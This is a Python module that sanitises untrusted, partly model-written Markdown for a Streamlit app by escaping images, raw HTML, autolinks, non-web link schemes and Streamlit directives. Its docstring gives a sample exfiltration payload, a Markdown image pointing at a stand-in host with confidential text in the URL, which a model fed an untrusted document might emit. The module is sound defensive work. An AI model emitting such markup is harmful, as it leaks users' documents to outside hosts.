"""Untrusted text made safe to render as Markdown: nothing in it can make a browser fetch,
follow a non-web address, or dress itself in the app's own colours and icons.

Why this exists: answers are written by a model that has read an untrusted document, and
document names, headings, warnings and server messages come from outside too. Rendered as-is,
a Markdown image such as `![x](https://evil.example/p.png?d=CONFIDENTIAL)` makes every browser
that opens the session send document text to that host, raw HTML (`<img src=…>`) does the same
in any Markdown viewer that renders HTML (the exported session opened in an editor's preview,
say), a `[link](data:text/html,…)` opens a page the text wrote, and Streamlit's directives
(`:green-background[✓ p. 1]`, `:material/verified:`) would let the text fake the app's own
marks. Everything the app shows that it did not write itself goes through `safe_markdown`
once, so there is one rule to review and test:

- images (inline, reference-style, inside links) are never loaded: their `!` is escaped, so
  each becomes an ordinary link (its alt text as the link text) the user may choose to open;
- every `<` that could start raw HTML, a comment, or an autolink is escaped, so tags are shown
  as text (optionally keeping a few attribute-less formatting tags that cannot fetch);
- a link keeps its address only if that is plainly a web or mail address (`http:`, `https:`,
  `mailto:`) or a relative one; any other (`data:`, `javascript:`, an address spelled with
  entities or escapes, one with spaces or angle brackets) has its `]` escaped and is shown as
  the text it is, as are reference definitions;
- Streamlit's directives are shown as written: the `:` that starts a text, leaf or container
  directive (`:red[…]`, `:blue-badge[…]`, `:small[…]`, `:color[…]{…}`, `::x`, `:::x`, and the
  names Streamlit styles even bare, `:red`) is escaped, and a word joiner (U+2060, invisible)
  follows the `:` that starts an icon, logo or emoji shortcode (`:material/x:`, `:streamlit:`,
  `:smile:`), which Streamlit finds in text after escapes are read. `$math$` is kept: KaTeX
  runs untrusted (no `\\includegraphics`, no `\\href`);
- code blocks and code spans are left exactly as they are: nothing inside them is interpreted,
  and answers about code are full of `<T>`, `vec![…]` and `std::`.

How, in time linear in the text (every rerun of a page renders every answer; about 0.1-0.5 µs
a character whatever its shape): regular expressions over the whole text, no Markdown parser.
The rule that makes that safe is that only code is left unescaped, and only code that every
reading agrees is code — CommonMark's, GitHub's (tables, literal autolinks, footnotes) and
Streamlit's (math, directives):

- a fence is kept only where its extent is certain: at the left margin or in a block quote
  started there, or in a list item whose start is certain; where the text could be read two
  ways (a fence indented like a list item's content with no certain item), it is kept only up
  to the first line the readings disagree on, and nothing after that line is taken for code;
  a fence that holds a `$$` line (where a math block could end) is not kept;
- a code span is kept on its line, or over the next lines when none of them could start a
  block of its own and its first line is a paragraph's; not in a table's lines when it holds a
  `|` or a line break; and not where something before it could swallow its opening backticks:
  a literal autolink in the same word, math (a `$` earlier in the paragraph, when the span
  holds one). A link, reference or footnote label that could hold a kept span is not made
  (its bracket is escaped), and every backtick or tilde fence run not kept is escaped, so no
  reading can pair backticks differently.

Pure: no I/O, no UI imports; used by the Streamlit pages and the Markdown export. The tests
judge it with a CommonMark parser (`fetching_constructs`) and models of Streamlit's additions."""

from __future__ import annotations

import re
import textwrap
from bisect import bisect_right
from collections.abc import Iterable
from functools import lru_cache
from itertools import chain

from markdown_it import MarkdownIt
from markdown_it.token import Token

__all__ = ["HARMLESS_TAGS", "LINK_SCHEMES", "WORD_JOINER", "fetching_constructs",
           "safe_markdown"]

# Attribute-less tags that cannot load anything; callers may keep some (the export's <sub>).
HARMLESS_TAGS = frozenset({"b", "br", "code", "em", "i", "kbd", "mark", "s", "small", "strong",
                           "sub", "sup", "u"})
# The schemes a link may keep; any other (data:, javascript:, file:, …) is shown as text.
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
# Follows the ':' of an icon, logo or emoji shortcode, which Streamlit would otherwise render.
WORD_JOINER = "\u2060"

_TAG = re.compile(r"</?([a-z]+)>")
# CommonMark with raw HTML on (as most Markdown viewers render), plus GFM tables and
# strikethrough (as Streamlit's remark-gfm does): the strictest reading of the text. Every link
# is kept, whatever its address (markdown-it would drop some), so the check sees them all.
_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_PARSER.validateLink = lambda url: True  # type: ignore[method-assign]

# Anything there may be to neutralise; text without any of these is returned as it is.
_ANYTHING = re.compile(r"[<\]:`~]|!\[")
# A line that may open or close a fence: block-quote markers, indentation, the fence run.
_FENCE_LINE = re.compile(
    r"^(?P<pre>(?:[ ]{0,3}>[ ]?)*)(?P<ind>[ ]*)(?P<run>`{3,}|~{3,})(?P<rest>[^\n]*)", re.M)
# A list item's first line (tabs are caught and refused by the caller).
_LIST_ITEM = re.compile(
    r"^(?P<ind>[ \t]*)(?P<mark>[-+*]|\d{1,9}[.)])(?=[ \t]|$)(?P<sp>[ \t]*)(?P<first>[^\n]?)",
    re.M)
_THEMATIC_BREAK = re.compile(r" {0,3}([-*_])[ \t]*(?:\1[ \t]*){2,}")
# A line where a math block (Streamlit's `$$`) could open or close.
_MATH_BLOCK_LINE = re.compile(r"^[ \t>]*(?:(?:[-+*]|\d{1,9}[.)])[ \t]+)?[ \t>]*\$\$", re.M)
# A GFM table's delimiter row somewhere: then a code span holding a `|` may be split by it.
_TABLE_DELIMITER = re.compile(r"^[ \t>]*(?=[^\n]*\|)(?=[^\n]*-)[ \t|:-]+$", re.M)
_LISTED, _QUOTED, _EITHER = range(3)  # how a fence is read (see _Blocks._kind)
# A code span may go on to the next line when that line cannot start a block of its own (so
# it goes on with the paragraph in every reading) and its own line is a paragraph's: no
# heading, no indented code.
_GOES_ON = r"[ ]*+[^\s#>\-*+_=|<`~$:\[0-9{block}]"  # (`block`: a kept code block's marker)
_PARAGRAPH_LINE = re.compile(
    r" {0,3}(?:>[ ]?|(?:[-+*]|\d{1,9}[.)])[ ]{1,4})*+(?=[^ \t#>\-+*0-9\n])")
# A code span holding more than this many stretches of text or backticks is shown with its
# backticks escaped instead (it bounds the search for the end of an unclosed one).
_SPAN_LIMIT = 64
# Directive names Streamlit styles even without a label (`:red` is an empty red span).
_STYLED = (r"(?:(?:red|orange|yellow|green|blue|violet|gray|grey|rainbow|primary)"
           r"(?:-background|-badge)?|color|small|shimmer|help)(?![A-Za-z0-9])")
# A directive name's first character (not whitespace or ASCII punctuation; any other
# character, so every name micromark reads is covered) and its others (`-`, `_` too); the
# markers of a run stand for punctuation (a backslash, a code span's backticks).
_NAME_START = r"[^\s!-/:-@\[-`{{-~{markers}]"
_NAME_CHAR = r"[^\s!-,./:-@\[-^`{{-~{markers}]"
# The line-start prefix of block quotes and list items, for line-start constructs.
_BLOCK_PREFIX = r"(?>(?:[ \t]*(?:>|(?:[-+*]|\d{1,9}[.)])(?=[ \t])))*[ \t]*)"


def safe_markdown(text: str, *, keep_tags: Iterable[str] = ()) -> str:
    """`text` with every image, raw HTML tag, autolink, non-web link address and Streamlit
    directive neutralised, everything else as written. Idempotent, safe for any input, and
    linear in its length (see the module docstring for why and how).

    `keep_tags` names attribute-less formatting tags from HARMLESS_TAGS to leave as HTML, for
    text the app composed itself (the export wraps its stats line in `<sub>`)."""
    keep = frozenset(keep_tags)
    if not keep <= HARMLESS_TAGS:
        unknown = sorted(keep - HARMLESS_TAGS)
        raise ValueError(f"only attribute-less formatting tags can be kept, not {unknown}")
    # Judge the text Streamlit will render: it dedents and strips every body (clean_text), which
    # can turn an indented code block into a live paragraph.
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    text = textwrap.dedent(text).strip()
    if not _ANYTHING.search(text):
        return text  # nothing to neutralise: the common case, kept cheap for streaming
    return _Escaper(text, keep).run()


def fetching_constructs(text: str, *, keep_tags: Iterable[str] = ()) -> list[str]:
    """What in `text` a CommonMark renderer with raw HTML on would turn into an image, raw HTML,
    an autolink or a link to an address that is not web or mail — each may load a URL, hide
    one or run one. Empty means safe to render. Tests use it as the judge."""
    keep = frozenset(keep_tags)
    found: list[str] = []
    stack = list(_PARSER.parse(text))
    while stack:
        token = stack.pop()
        stack.extend(token.children or ())
        found += _fetching(token, keep)
    return found


def _fetching(token: Token, keep: frozenset[str]) -> list[str]:
    if token.type == "image":
        return [f"image {token.attrGet('src')}"]
    if token.type == "html_block":
        return [f"html block {token.content.strip()[:80]!r}"]
    if token.type == "html_inline" and not _kept_tag(token.content, keep):
        return [f"html {token.content[:80]!r}"]
    if token.type == "link_open":
        href = str(token.attrGet("href") or "")
        if token.markup in {"autolink", "linkify"}:
            return [f"autolink {href}"]
        scheme = re.match(r"[A-Za-z][A-Za-z0-9+.-]*(?=:)", href.strip())
        if scheme and scheme.group().lower() not in LINK_SCHEMES:
            return [f"link {href[:80]}"]
    return []


def _kept_tag(text: str, keep: frozenset[str]) -> bool:
    match = _TAG.fullmatch(text)
    return bool(match and match.group(1) in keep)


# --------------------------------------------------------------------------------------------
# Where the code blocks are.


@lru_cache(maxsize=64)
def _outdented(columns: int) -> re.Pattern[str]:
    """A non-blank line indented by fewer than `columns` spaces (a tab counts as too few)."""
    return re.compile(rf"^ {{0,{columns - 1}}}[^ \n]", re.M)


@lru_cache(maxsize=64)
def _fence_end(kind: int, column: int, char: str) -> re.Pattern[str]:
    """The first line after a fence's opening that could end it, read as `kind` (see
    _Blocks._kind): one that leaves its container (`leave`), one that could close it (`close`,
    its run in `closing`), or one that readings could take differently: a closing run some list
    item would take (`part`, its run in `parting`) or a tab where the readings count columns
    (`unsure`). The caller checks the runs' length."""
    run = "`{3,}" if char == "`" else "~{3,}"
    tabbed_run = rf"[ \t]*\t[ \t]*{run}[ \t]*$"
    if kind == _QUOTED:
        marker = r"(?:[ ]{0,3}>[ ]?)"
        alternatives = [
            rf"(?P<unsure>^(?:{marker}{{0,{column - 1}}}[ ]{{0,3}}\t|{marker}{{{column}}}{tabbed_run}))",
            rf"(?P<leave>^(?!{marker}{{{column}}}))",
            rf"(?P<close>^{marker}{{{column}}}(?![ ]{{0,3}}>)[ ]{{0,3}}(?P<closing>{run})[ \t]*$)"]
    elif not column:  # at the margin: a tab puts a run past column 3, where it cannot close
        alternatives = [rf"(?P<close>^ {{0,3}}(?P<closing>{run})[ \t]*$)"]
    else:
        high = column + 3 if kind == _LISTED else 3
        alternatives = [
            rf"(?P<unsure>^(?: {{0,{column - 1}}}\t|{tabbed_run}))",
            rf"(?P<leave>^ {{0,{column - 1}}}[^ \t\n])",
            rf"(?P<close>^ {{{column},{high}}}(?P<closing>{run})[ \t]*$)"]
        if kind == _EITHER:
            alternatives.append(rf"(?P<part>^ {{4,{column + 3}}}(?P<parting>{run})[ \t]*$)")
    return re.compile("|".join(alternatives), re.M)


class _Blocks:
    """The fenced code blocks every reading of the text agrees on, as (start, end) offsets of
    whole lines (end at the last line's newline or the text's end). Each line is searched once:
    for a fence's opening line, then for the line that ends it."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.found: list[tuple[int, int]] = []
        self.math = "$$" in text
        self._items: list[re.Match[str]] | None = None
        self._item_starts: list[int] = []
        self._checked: dict[int, int] = {}  # list item → how far its lines are known to be in it

    def run(self) -> list[tuple[int, int]]:
        text, position = self.text, 0
        while (line := _FENCE_LINE.search(text, position)) is not None:
            pre, ind, run, rest = line.groups()
            kind = None if run[0] == "`" and "`" in rest else self._kind(line.start(), pre, len(ind))
            if kind is None:
                position = line.end() + 1
                continue
            end, position, certain = self._follow(line.end(), run, *kind)
            if not (self.math and _MATH_BLOCK_LINE.search(text, line.end(), end)):
                self.found.append((line.start(), end))
            # else a math block could end inside: not code to every reading, so left as text
            # (its fence runs are escaped with the rest, so no reading finds a fence there)
            if not certain:
                break  # the readings part here: nothing after it is taken for code
        return self.found

    def _kind(self, start: int, pre: str, indent: int) -> tuple[int, int] | None:
        """How a fence opening here is read, if every reading takes it for one: as quoted
        (_QUOTED, depth), at the margin or in a certain list item (_LISTED, content column,
        0 at the margin), or either at the margin or in some list item (_EITHER, indent)."""
        if pre:
            return (_QUOTED, pre.count(">")) if pre[0] == ">" and indent <= 1 else None
        if indent <= 1:
            return _LISTED, 0
        content = self._item_content(start)
        if content is not None and content <= indent <= content + 3:
            return _LISTED, content
        return (_EITHER, indent) if indent <= 3 else None

    def _follow(self, opened: int, run: str, kind: int, column: int) -> tuple[int, int, bool]:
        """(end, where to look on, whether every reading ends it there) for a fence whose
        opening line ends at `opened`. It ends at its closing fence, or where its container
        ends (a line indented less than a list item's content, or without the quote's
        markers), or, read either way, at the first line the readings part on."""
        text, ending = self.text, _fence_end(kind, column, run[0])
        position = opened + 1
        while (found := ending.search(text, position)) is not None:
            if found.lastgroup == "unsure":
                return found.start() - 1, found.start(), False
            if found.lastgroup == "leave":
                return found.start() - 1, found.start(), kind != _EITHER
            if found.lastgroup == "close" and len(found.group("closing")) >= len(run):
                return found.end(), found.end() + 1, True
            if found.lastgroup == "part" and len(found.group("parting")) >= len(run):
                return found.start() - 1, found.start(), False  # a list item would close it
            position = found.end() + 1
        return len(text), len(text), True

    def _item_content(self, line_start: int) -> int | None:
        """The column where the content of the list item holding the line at `line_start`
        starts, if that item is certain: its first line is the nearest list-item line before,
        outside any code block, indented at most 3 with something after the marker, and it
        cannot be a paragraph's text (it follows a blank line, or is a bullet or starts at 1);
        no line since has left it."""
        if self._items is None:
            self._items = list(_LIST_ITEM.finditer(self.text))
            self._item_starts = [item.start() for item in self._items]
        position = bisect_right(self._item_starts, line_start - 1) - 1
        if position < 0:
            return None
        item = self._items[position]
        ind, mark, spaces = item.group("ind"), item.group("mark"), item.group("sp")
        line_end = self.text.find("\n", item.start())
        line_end = len(self.text) if line_end == -1 else line_end
        inside = bisect_right(self.found, (item.start(), len(self.text))) - 1
        if ("\t" in ind or "\t" in spaces or len(ind) > 3 or not spaces
                or not item.group("first")
                or _THEMATIC_BREAK.fullmatch(self.text, item.start(), line_end)
                or (inside >= 0 and self.found[inside][1] >= item.start())):
            return None
        after_blank = item.start() == 0 or self.text.startswith("\n\n", item.start() - 2)
        if not (after_blank or mark in "-+*" or mark[:-1] == "1"):
            return None
        content = len(ind) + len(mark) + (len(spaces) if len(spaces) <= 4 else 1)
        checked = max(line_end + 1, self._checked.get(position, 0))
        if checked < line_start and _outdented(content).search(self.text, checked, line_start):
            return None
        self._checked[position] = max(checked, line_start)
        return content


# --------------------------------------------------------------------------------------------
# Escaping everything else.


@lru_cache(maxsize=8)
def _patterns(escape: str, span: str, block: str, keep: frozenset[str]) -> dict[str, re.Pattern[str]]:
    """The expressions of one run, around its private marker characters: `escape` stands for a
    backslash that escapes the next character, `span` for a kept code span, `block` for a kept
    code block (none of them occurs in the text)."""
    markers = escape + span + block
    # An address a link may keep: web or mail, or relative without a colon; parentheses in
    # balanced pairs. Nothing a later step would escape may be in it, nor in a title or label
    # (escaping it then would change this decision when the output is read again).
    web = rf"(?:[^\s()<>\[\]{{}}`\"'\\:{markers}\x00-\x1f]|:(?![A-Za-z]))"
    relative = rf"[^\s()<>\[\]{{}}`\"'\\&:{markers}\x00-\x1f]"
    destination = (rf"(?:(?i:https?:|mailto:)(?:{web}|\({web}*+\))*+"
                   rf"|(?:{relative}|\({relative}*+\))*+)")
    title = rf"(?:\"[^\"\n`<>\[\]:{markers}]*\"|'[^'\n`<>\[\]:{markers}]*')"
    kept_tail = (rf"\({destination}(?:[ \t]+{title})?[ \t]*+\)"
                 rf"|\[[^\[\]\n`\\<:{markers}]*\](?![(\[:])"
                 rf"|:[ \t]*+\n?[ \t]*+(?=\S){destination}(?=\s|$)")
    name_start, name_char = _NAME_START.format(markers=markers), _NAME_CHAR.format(markers=markers)
    kept_tags = "|".join(sorted(keep))
    tag = rf"(?!/?(?:{kept_tags})>)" if keep else ""
    return {
        # a kept tag alone on its line would start an HTML block swallowing the lines after
        "lone_tags": re.compile(rf"^({_BLOCK_PREFIX})<(?=/?(?:{kept_tags})>[ \t]*$)", re.M),
        "escaped_backslashes": re.compile(r"\\\\"),
        "escapes": re.compile(rf"(?<!{escape})\\(?=[!-/:-@\[-`{{-~])"),
        "spans": re.compile(
            r"(?P<word>(?i:www\.|https?://)[^\s`]*+`\S*+)"
            rf"|(?:(?<={escape}`)|(?<![`{escape}]))(?P<open>`+)(?!`)"
            rf"(?P<body>(?:[^`\n]++|`++|\n(?={_GOES_ON.format(block=block)})){{1,{_SPAN_LIMIT}}}?)"
            r"(?<!`)(?P=open)(?!`)"),
        "links": re.compile(rf"(?<!{escape})\](?=[(\[:])(?!{kept_tail})"),
        "footnotes": re.compile(rf"(?<!{escape})\[(?=\^[^\[\]\n]*{span})"),
        "backticks": re.compile(rf"(?<!{escape})`"),
        "tildes": re.compile(rf"^({_BLOCK_PREFIX})((?:{escape}?~){{3,}})", re.M),
        "tags": re.compile(rf"(?<!{escape})<{tag}"),
        "images": re.compile(rf"(?<!{escape})!(?=\[)"),
        "directives": re.compile(
            rf"(?<!{escape}):(?={name_start}{name_char}*+[\[{{]|{_STYLED})"),
        "block_directives": re.compile(rf"^({_BLOCK_PREFIX}:+):(?={name_start})", re.M),
        # (an escaped character counts: Streamlit finds these after escapes are read; a web
        # address's scheme after a definition's `]:` is not one)
        "shortcodes": re.compile(
            rf":(?!(?i:https?|mailto):)(?=[0-9_+\-{escape}]*+[A-Za-z][A-Za-z0-9_+\-{escape}]*+:"
            rf"|{escape}?[+-]{escape}?1{escape}?:|(?:100|1234){escape}?:|material/)"),
    }


def _markers(text: str) -> tuple[str, str, str]:
    free = (chr(code) for code in range(0xF0000, 0x10FFFE) if chr(code) not in text)
    return next(free), next(free), next(free)


class _Escaper:
    """One run of safe_markdown over a text that has something to neutralise."""

    def __init__(self, text: str, keep: frozenset[str]) -> None:
        self.text = text
        self.escape, self.span, self.block = _markers(text)
        self.keep = keep
        self.re = _patterns(self.escape, self.span, self.block, keep)
        self.spans: list[str] = []
        self.blocks: list[str] = []
        self._has_table = False
        self._blank: list[int] | None = None
        self._tables: dict[int, bool] = {}

    def run(self) -> str:
        text, esc, re_ = self._without_blocks(), self.escape, self.re
        if "\\" in text:  # a backslash pair, then a backslash before punctuation
            text = re_["escaped_backslashes"].sub(esc + "\\\\", text)
            text = re_["escapes"].sub(esc, text)
        self._text = text
        if "`" in text:
            self._has_table = bool(_TABLE_DELIMITER.search(text))
            text = re_["spans"].sub(self._span, text)
            if self.spans and "[^" in text:
                text = re_["footnotes"].sub(esc + "[", text)
            text = re_["backticks"].sub(esc + "`", text)
        if "]" in text:
            text = re_["links"].sub(esc + "]", text)
        if "~~~" in text or esc + "~" in text:
            text = re_["tildes"].sub(self._tildes, text)
        if "<" in text:
            if self.keep:
                text = re_["lone_tags"].sub(lambda m: m.group(1) + esc + "<", text)
            text = re_["tags"].sub(esc + "<", text)
        if "![" in text:
            text = re_["images"].sub(esc + "!", text)
        if ":" in text:
            text = re_["block_directives"].sub(lambda m: m.group(1) + esc + ":", text)
            text = re_["directives"].sub(esc + ":", text)
            text = re_["shortcodes"].sub(":" + WORD_JOINER, text)
        text = _fill(text, self.span, self.spans)
        text = _fill(text, self.block, self.blocks)
        return text.replace(esc, "\\")

    def _without_blocks(self) -> str:
        if "```" not in self.text and "~~~" not in self.text:
            return self.text
        pieces, last = [], 0
        for start, end in _Blocks(self.text).run():
            pieces += [self.text[last:start], self.block]
            self.blocks.append(self.text[start:end])
            last = end
        pieces.append(self.text[last:])
        return "".join(pieces)

    def _span(self, match: re.Match[str]) -> str:
        """A code span kept (its marker) or not (as it is: its backticks are escaped later)."""
        span, word, _, body = match.group(0, 1, 2, 3)
        if word is not None:
            return span  # a literal autolink could hold these backticks
        if ("$" in body or "\n" in body or "|" in body) and not self._keeps(match.start(), body):
            return span
        self.spans.append(span)
        return self.span

    def _keeps(self, start: int, body: str) -> bool:
        """Whether no reading cuts the span at `start` short: math from a `$` before it, a
        table cell's end, or a block that the next line starts."""
        text = self._text
        return not (("$" in body and self._math_before(start))
                    or (("\n" in body or "|" in body.replace(self.escape + "|", ""))
                        and self._in_table(start))
                    or ("\n" in body and not _PARAGRAPH_LINE.match(
                        text, text.rfind("\n", 0, start) + 1)))

    def _in_table(self, position: int) -> bool:
        """Whether the lines around `position` (up to blank lines) hold a table's delimiter row
        (then a `|` ends a cell, and each line is a row)."""
        if not self._has_table:
            return False
        if self._blank is None:
            self._blank = [found.start() for found in re.finditer("\n\n", self._text)]
        after = bisect_right(self._blank, position)
        start = self._blank[after - 1] + 2 if after else 0
        if start not in self._tables:
            end = self._blank[after] if after < len(self._blank) else len(self._text)
            self._tables[start] = bool(_TABLE_DELIMITER.search(self._text, start, end))
        return self._tables[start]

    def _math_before(self, position: int) -> bool:
        """Whether a `$` earlier in the paragraph could open math that ends inside the span."""
        dollar = self._text.rfind("$", 0, position)
        return dollar != -1 and self._text.find("\n\n", dollar, position) == -1

    def _tildes(self, match: re.Match[str]) -> str:
        run = re.sub(rf"(?<!{self.escape})~", self.escape + "~", match.group(2))
        return match.group(1) + run


def _fill(text: str, marker: str, pieces: list[str]) -> str:
    """`text` with each `marker` replaced by the next of `pieces`, in order."""
    if not pieces:
        return text
    parts = text.split(marker)
    return "".join(chain.from_iterable(zip(parts[:-1], pieces, strict=True))) + parts[-1]
